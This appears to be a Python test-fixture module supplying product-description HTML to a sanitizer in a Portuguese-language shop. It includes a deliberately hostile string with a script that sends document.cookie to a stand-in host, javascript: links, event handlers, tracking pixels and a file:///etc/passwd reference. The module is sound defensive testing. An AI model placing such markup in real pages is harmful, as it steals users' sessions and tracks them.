"""Descriptions as merchants paste them from other shops: long, and not always harmless."""

HOSTILE = (
    '<h2 onclick="alert(1)">Som que acompanha você</h2>'
    '<script>document.location="https://example.org/roubo?"+document.cookie</script>'
    '<p style="background:url(https://example.org/pixel.gif)">Bateria de <b>12 horas</b>,'
    " resistente à água &amp; poeira.</p>"
    '<img src="https://example.org/rastreador.gif" width="1" height="1">'
    '<img src="file:///etc/passwd"><iframe src="https://example.org/"></iframe>'
    '<a href="javascript:alert(2)">Clique aqui</a> ou <a href="https://example.org/loja">visite'
    " a loja</a>.<table><tr><th>Potência</th><td>20 W</td></tr></table>"
    "<ul><li>Bluetooth 5.3<li>Entrada USB-C</ul><style>body{display:none}</style>"
)
_INTRODUCTION = (
    "<h1>Furadeira de Bancada 13 mm</h1><p><b>Feita para durar.</b> Motor de indução silencioso,"
    " mandril de <i>13 mm</i> e mesa inclinável de −45° a +45°.</p>"
)
_SECTIONS = (
    "<h3>Ficha técnica {n}</h3><table><tr><th>Medida</th><th>Valor</th></tr>"
    "<tr><td>Velocidades</td><td>5 (580 a 2.650 rpm)</td></tr>"
    "<tr><td>Curso</td><td>50 mm</td></tr></table>",
    "<h3>O que vem na caixa {n}</h3><ul><li>1 furadeira de bancada</li><li>1 chave de mandril</li>"
    "<li>Manual em português</li></ul>",
    "<p>Use óculos de proteção. A ferramenta foi testada por <em>três</em> oficinas durante seis"
    " meses; peças de reposição são fáceis de achar. Parágrafo {n}.</p>",
)


def long_description(length: int) -> str:
    """HTML of exactly this many characters."""
    parts, size, number = [_INTRODUCTION], len(_INTRODUCTION), 0
    while True:
        number += 1
        section = _SECTIONS[number % len(_SECTIONS)].format(n=number)
        if size + len(section) > length - 7:
            break
        parts.append(section)
        size += len(section)
    return "".join(parts) + "<p>" + "." * (length - size - 7) + "</p>"
